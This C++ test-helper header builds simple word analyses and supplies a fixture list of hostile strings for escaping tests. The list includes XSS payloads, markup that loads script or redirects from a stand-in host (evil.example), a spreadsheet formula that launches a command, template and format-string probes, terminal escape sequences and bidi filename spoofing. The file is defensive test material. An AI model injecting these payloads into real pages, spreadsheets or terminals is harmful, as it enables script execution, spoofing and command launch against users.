// Small analyzed documents and hostile strings for tests of words and pages.
//
// Threads: pure functions.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

#include "base/hash.h"
#include "text/analyzer.h"

namespace twinset {

/// An analysis of words separated by single spaces: made here, so that these
/// tests know every token's bytes.
inline Analysis words_of(std::string_view text) {
  Analysis analysis;
  for (std::size_t begin = 0; begin < text.size();) {
    std::size_t end = text.find(' ', begin);
    if (end == std::string_view::npos) end = text.size();
    if (end > begin) {
      std::uint64_t hash = 1;
      for (const char c : text.substr(begin, end - begin)) {
        hash = mix64(hash * 257 + static_cast<std::uint8_t>(c));
      }
      analysis.tokens.push_back(hash);
      analysis.offsets.push_back(
          {static_cast<std::uint32_t>(begin), static_cast<std::uint32_t>(end)});
    }
    begin = end + 1;
  }
  return analysis;
}

/// "w<first> w<first+1> ...": `count` different words.
inline std::string counted_words(unsigned first, unsigned count, std::string_view prefix = "w") {
  std::string text;
  for (unsigned i = 0; i < count; ++i) {
    if (i > 0) text += ' ';
    text += prefix;
    text += std::to_string(first + i);
  }
  return text;
}

/// Strings that break naive writers: markup, attributes, style, controls, bidi,
/// bad UTF-8. Each holds "EVIL" where it would run if it ran.
inline std::vector<std::string> hostile_strings() {
  using namespace std::string_literals;
  return {
      "<script>EVIL()</script>",
      "<SCRIPT SRC=//evil.example/EVIL.js></SCRIPT>",
      "</script><script>EVIL()</script>",
      "<img src=x onerror=EVIL()>",
      "<img src=\"x\" onerror=\"EVIL()\">",
      "<svg/onload=EVIL()>",
      "<svg><script>EVIL()</script></svg>",
      "</svg><script>EVIL()</script>",
      "<iframe srcdoc='<script>parent.EVIL()</script>'>",
      "<a href=\"javascript:EVIL()\">x</a>",
      "<body onload=EVIL()>",
      "<input autofocus onfocus=EVIL()>",
      "<details open ontoggle=EVIL()>",
      "<marquee onstart=EVIL()>",
      "<math><mtext></mtext><script>EVIL()</script>",
      "<base href=//evil.example/>",
      "<meta http-equiv=refresh content=0;url=//evil.example/EVIL>",
      "<link rel=stylesheet href=//evil.example/EVIL.css>",
      "<style>*{background:url(//evil.example/EVIL)}</style>",
      "</style><script>EVIL()</script>",
      "</title><script>EVIL()</script>",
      "</textarea><script>EVIL()</script>",
      "</td></tr></table><script>EVIL()</script>",
      "</article></section></main></body></html><script>EVIL()</script>",
      "<!--<script>EVIL()</script>",
      "--><script>EVIL()</script>",
      "<![CDATA[<script>EVIL()</script>]]>",
      "]]><script>EVIL()</script>",
      "<?xml version=\"1.0\"?><script>EVIL()</script>",
      "<!DOCTYPE html><script>EVIL()</script>",
      "\" onmouseover=\"EVIL()",
      "' onmouseover='EVIL()",
      "\"><script>EVIL()</script>",
      "'><script>EVIL()</script>",
      "` onmouseover=`EVIL()",
      "\" style=\"background:url(//evil.example/EVIL)",
      "&lt;script&gt;EVIL()&lt;/script&gt;",
      "&#60;script&#62;EVIL()&#60;/script&#62;",
      "&#x3c;script&#x3e;EVIL()&#x3c;/script&#x3e;",
      "&amp;&quot;&nbsp;&unknown; & && &# &#x EVIL",
      "<\0script>EVIL()</script>"s,
      "<scr\0ipt>EVIL()</scr\0ipt>"s,
      "\0\0EVIL\0"s,
      "EVIL \x01\x02\x07\x08\x0b\x0c\x0e\x1f\x7f",
      "EVIL \x1b[31m red \x1b[2J\x1b[H cleared \x1b]0;title\x07 "
      "\x1b]8;;http://evil.example\x1b\\link",
      "EVIL \x1bP+q544e\x1b\\ \x1b[6n \x1b[?1049h \x1b"
      "c",
      "EVIL \xc2\x9b"
      "31m C1 \xc2\x9d"
      "0;title\xc2\x9c",
      "EVIL \x9b"
      "31m bare C1",
      "over\rEVIL\r\nwritten\ttab\x0b",
      "EVIL \xe2\x80\xae"
      "txt.exe \xe2\x80\xac \xe2\x81\xa6 x \xe2\x81\xa9 \xe2\x80\x8f",
      "EVIL \xe2\x80\xa8 line \xe2\x80\xa9 paragraph \xc2\x85 next",
      "EVIL zero\xe2\x80\x8bwidth\xef\xbb\xbf"
      "bom\xc2\xad"
      "shy\xe2\x81\xa0",
      "EVIL \xf3\xa0\x81\x81\xf3\xa0\x81\x82 tags",
      "EVIL \xc0\xbcscript\xc0\xbe \xe0\x80\xbcscript\xe0\x80\xbe overlong",
      "EVIL \xed\xa0\x80 surrogate \xed\xb0\x80",
      "EVIL \xf4\x90\x80\x80 \xf8\x88\x80\x80\x80 \xff\xfe beyond",
      "EVIL \xe2\x82",
      "EVIL \xf0\x9f\x98",
      "\x80\xbf\xbf EVIL",
      "EVIL \xef\xbf\xbe\xef\xbf\xbf\xef\xb7\x90 noncharacters",
      "+ADw-script+AD4-EVIL()+ADw-/script+AD4-",
      "EVIL "
      "\xe0\xb9\x87\xe0\xb9\x87\xe0\xb9\x87\xe0\xb9\x87\xe0\xb9\x87\xe0\xb9\x87\xe0\xb9\x87\xe0\xb9"
      "\x87",
      "EVIL \xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d \xd8\xa7\xd9\x84\xd8\xb3\xd9\x84\xd8\xa7\xd9\x85",
      "=cmd|'/C calc'!A0 EVIL",
      "{{7*7}} ${7*7} <%= EVIL %> #{EVIL}",
      "%s%n%x {} {0} {:>99999} EVIL",
      std::string(5000, '<') + "EVIL",
      "EVIL" + std::string(100'000, 'a'),
      ""s,
  };
}

}  // namespace twinset
